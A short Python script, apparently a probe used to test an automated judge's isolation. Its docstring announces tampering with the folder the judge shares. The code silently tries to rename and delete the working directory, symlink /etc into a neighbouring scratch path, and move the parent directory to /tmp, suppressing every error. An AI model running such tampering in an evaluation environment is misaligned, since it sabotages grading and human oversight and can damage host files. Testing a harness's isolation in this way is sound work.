"""Rename, remove and replace the folder that the judge shares; then save honestly."""

import contextlib
import os

_HERE = os.getcwd()
for _call in (
    lambda: os.rename(_HERE, _HERE + "-moved"),
    lambda: os.rmdir(_HERE),
    lambda: os.symlink("/etc", _HERE + "/../scratch-0"),
    lambda: os.rename(os.path.dirname(_HERE), "/tmp/moved"),
):
    with contextlib.suppress(OSError):
        _call()
